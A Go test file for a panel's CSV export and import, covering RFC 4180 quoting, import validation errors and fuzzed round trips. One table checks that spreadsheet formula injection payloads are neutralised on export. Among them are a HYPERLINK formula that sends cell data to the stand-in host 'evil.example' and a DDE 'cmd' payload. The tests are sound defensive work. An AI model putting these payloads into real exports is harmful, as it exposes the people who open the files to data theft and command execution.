package panel

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/radpanel/radpanel/app/database/dbgen"
)

var someTime = time.Date(2024, 5, 6, 7, 8, 9, 123456000, time.UTC)

// exported is the CSV of one record.
func exported(t testing.TB, columns []string, title, document string) string {
	t.Helper()
	var out bytes.Buffer
	w := newCSVWriter(&out, columns)
	require.NoError(t, w.writeHeader())
	require.NoError(t, w.write(dbgen.Record{
		ID: uuid.MustParse("0190a5b2-0000-7000-8000-000000000000"), Title: title, Data: json.RawMessage(document),
		CreatedAt: someTime, UpdatedAt: someTime,
	}))
	return out.String()
}

// imported reads all rows, or the errors of all lines.
func imported(text string) (rows []importRow, err error) {
	in, err := newCSVReader(strings.NewReader(text))
	if err != nil {
		return nil, err
	}
	var wrong []error
	for {
		row, fatal, err := in.read()
		if errors.Is(err, io.EOF) {
			return rows, errors.Join(wrong...)
		}
		if err != nil {
			wrong = append(wrong, err)
		} else {
			rows = append(rows, row)
		}
		if fatal {
			return rows, errors.Join(wrong...)
		}
	}
}

func TestExportFollowsRFC4180(t *testing.T) {
	t.Parallel()
	got := exported(t, []string{"price", "note", "tags", "absent", "id"}, `A "quoted", title`,
		`{"price": -12.50, "note": "two\nlines, ünïcode", "tags": ["a", {"b": null}], "id": true, "hidden": 1}`)
	want := "id,title,price,note,tags,absent,data.id,created_at,updated_at\r\n" +
		`0190a5b2-0000-7000-8000-000000000000,"A ""quoted"", title",-12.50,"two` + "\n" + `lines, ünïcode","[""a"", {""b"": null}]",,true,` +
		"2024-05-06T07:08:09.123456Z,2024-05-06T07:08:09.123456Z\r\n"
	assert.Equal(t, want, got)
}

func TestFormulasAreDisarmed(t *testing.T) {
	t.Parallel()
	for value, cell := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"+1+cmd|' /C calc'!A0":                       "'+1+cmd|' /C calc'!A0",
		"-2+3":                                       "'-2+3",
		"@SUM(A1)":                                   "'@SUM(A1)",
		"\t=1":                                       "'\t=1",
		"\r=1":                                       "'\r=1",
		"\n=1":                                       "'\n=1",
		"＝1":                                         "'＝1",
		"'=1":                                        "''=1",
		"''''@":                                      "'''''@",
		"-5":                                         "-5",
		"-5.25e-3":                                   "-5.25e-3",
		"-":                                          "'-",
		"-5-5":                                       "'-5-5",
		"'quoted'":                                   "'quoted'",
		"a=b":                                        "a=b",
		" =1":                                        " =1",
		"":                                           "",
	} {
		assert.Equal(t, cell, protect(value))
		assert.Equal(t, value, unprotect(cell), "the import undoes it")
	}
	header := exported(t, []string{"=cmd()", "@x"}, "=1", `{"@x":"+1"}`)
	assert.Contains(t, header, `,'=cmd(),'@x,`)
	assert.Contains(t, header, `,'=1,,'+1,`)
}

func TestImport(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		text string
		want []string // title and data of each row
		err  string
	}{
		"plain":                     {text: "title,price\nA,1\nB,2\n", want: []string{`A {"price":"1"}`, `B {"price":"2"}`}},
		"CR LF and no last end":     {text: "title,price\r\nA,1\r\nB,2", want: []string{`A {"price":"1"}`, `B {"price":"2"}`}},
		"header only":               {text: "title\n"},
		"other order":               {text: "b,title,a\n1,T,2\n", want: []string{`T {"a":"2","b":"1"}`}},
		"empty cells are left out":  {text: "title,a,b\nT,,x\n", want: []string{`T {"b":"x"}`}},
		"empty lines are left out":  {text: "title\n\nT\n\n", want: []string{`T {}`}},
		"byte order mark":           {text: "\uFEFF\"title\",a\nT,1\n", want: []string{`T {"a":"1"}`}},
		"another spelling":          {text: "Name, Title ,x\nn,T,1\n", want: []string{`T {"Name":"n","x":"1"}`}},
		"title wins over Title":     {text: "Title,title\na,b\n", want: []string{`b {"Title":"a"}`}},
		"our own columns":           {text: "id,title,created_at,updated_at,x\n1,T,2,3,4\n", want: []string{`T {"x":"4"}`}},
		"keys like our own columns": {text: "title,data.id,data.data.x,data.y\nT,1,2,3\n", want: []string{`T {"data.x":"2","id":"1","y":"3"}`}},
		"formulas":                  {text: "title,'=k\n'=T,'@v\n", want: []string{`=T {"=k":"@v"}`}},
		"lines in cells":            {text: "title,x\n\"T\",\"a\r\nb\"\n", want: []string{`T {"x":"a\nb"}`}},
		"white space around titles": {text: "title\n\"  T  \"\n", want: []string{`T {}`}},
		"text is not escaped":       {text: "title,x\nT,<b>&\n", want: []string{`T {"x":"<b>&"}`}},

		"empty":              {text: "", err: "line 1: the file is empty"},
		"no title":           {text: "name;price\nA;1\n", err: `line 1: no column "title"`},
		"a column twice":     {text: "title,a,a\n", err: `line 1: the column "a" is there twice`},
		"a key twice":        {text: "title,a,data.a\n", err: `line 1: the column "data.a" is there twice`},
		"a nameless column":  {text: "title,\n", err: "line 1: column 2: expected a name"},
		"a key too long":     {text: "title," + strings.Repeat("x", 101) + "\n", err: "line 1: column 2: expected a name"},
		"too many columns":   {text: "title" + strings.Repeat(",x", 500) + "\n", err: "line 1: 501 columns; expected at most 500"},
		"too few cells":      {text: "title,a\nT,1\nU\n", want: []string{`T {"a":"1"}`}, err: "line 3: 1 cells; expected 2, as in the header"},
		"too many cells":     {text: "title\nT,1\n", err: "line 2: 2 cells; expected 1, as in the header"},
		"no title in a row":  {text: "title,a\n\"a\nb\",1\n,2\n", err: "line 2: title: expected one line without control characters\nline 4: title: expected a text that is not empty"},
		"title too long":     {text: "title\n" + strings.Repeat("ü", 201) + "\n", err: "line 2: title: 201 characters; expected at most 200"},
		"data too large":     {text: "title,a\nT," + strings.Repeat("x", 64<<10) + "\n", err: "line 2: data: 65544 bytes; expected at most 65536"},
		"NUL":                {text: "title\nT\x00\n", err: "line 2: cell 1: expected UTF-8 text without NUL characters"},
		"not UTF-8":          {text: "title,a\nT,\xff\n", err: "line 2: cell 2: expected UTF-8 text without NUL characters"},
		"a stray quote":      {text: "title\na\"b\n", err: `line 2: character 2: bare " in non-quoted-field`},
		"a quote left open":  {text: "title\n\"a\nb\n", err: `line 3: character 3: extraneous or missing " in quoted-field`},
		"not UTF-8 in names": {text: "title,\xff\n", err: "line 1: column 2: expected a name"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			rows, err := imported(test.text)
			var got []string
			for i, row := range rows {
				assert.GreaterOrEqual(t, row.Number, i+1)
				got = append(got, row.Title+" "+string(row.Data))
			}
			assert.Equal(t, test.want, got)
			if test.err == "" {
				require.NoError(t, err)
				return
			}
			require.ErrorContains(t, err, test.err)
		})
	}
}

// FuzzImport exports a record and imports it again: titles, keys and texts come back as they were. Line ends within
// texts become LF, as in every CSV reader of Go, and empty texts become absent.
func FuzzImport(f *testing.F) {
	for _, seed := range [][4]string{
		{"title", "price", "12", "x"},
		{"=1+1", "=cmd()", "@SUM(A1)", "'=1"},
		{"''''-", "data.", "\r\n\r", "\""},
		{"\uFEFFa", "title", "id", "a,b;c\td"},
		{"é\u2028", "created_at", "\t=", "-5"},
		{"a\"b", "data.title", "'", "\n"},
		{"T", " k ", " v ", "\uFEFF"},
	} {
		f.Add(seed[0], seed[1], seed[2], seed[3])
	}
	f.Fuzz(func(t *testing.T, title, key, value, other string) {
		title, err := line("title", title, maxTitleLength)
		if err != nil || validateKey("", key) != nil || key == "other" {
			t.Skip()
		}
		document, err := ParseDocument(marshal(t, map[string]string{key: value, "other": other}))
		if err != nil {
			t.Skip()
		}
		rows, err := imported(exported(t, []string{key, "other"}, title, string(document)))
		require.NoError(t, err)
		require.Len(t, rows, 1)
		assert.Equal(t, title, rows[0].Title)

		want := map[string]string{}
		require.NoError(t, json.Unmarshal(document, &want))
		for key, value := range want {
			if want[key] = strings.ReplaceAll(value, "\r\n", "\n"); want[key] == "" {
				delete(want, key)
			}
		}
		got := map[string]string{}
		require.NoError(t, json.Unmarshal(rows[0].Data, &got))
		assert.Equal(t, want, got)
	})
}

func marshal(t testing.TB, value any) []byte {
	t.Helper()
	data, err := json.Marshal(value)
	require.NoError(t, err)
	return data
}

// FuzzImportOfAnything reads what is no export: whatever is taken from it can be stored and exported, and no cell of
// that export is a formula.
func FuzzImportOfAnything(f *testing.F) {
	f.Add("title,price\nA,1\n")
	f.Add("\uFEFFtitle;x\r\n\"a\r\nb\";1")
	f.Add("id,title,data.id,'=x\n1,'=2,3,'''@4\n")
	f.Fuzz(func(t *testing.T, text string) {
		rows, _ := imported(text)
		for _, row := range rows {
			_, err := line("title", row.Title, maxTitleLength)
			require.NoError(t, err)
			_, err = ParseDocument(row.Data)
			require.NoError(t, err)

			var document map[string]string
			require.NoError(t, json.Unmarshal(row.Data, &document))
			var keys []string
			for key := range document {
				keys = append(keys, key)
			}
			for _, cells := range readAll(t, exported(t, keys, row.Title, string(row.Data))) {
				for _, cell := range cells {
					if !plainNumber.MatchString(cell) && cell != "" {
						assert.NotContains(t, "=+-@\t\r\n", cell[:1], "%q", cell)
					}
				}
			}
		}
	})
}

func readAll(t testing.TB, text string) [][]string {
	t.Helper()
	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	require.NoError(t, err)
	return lines
}
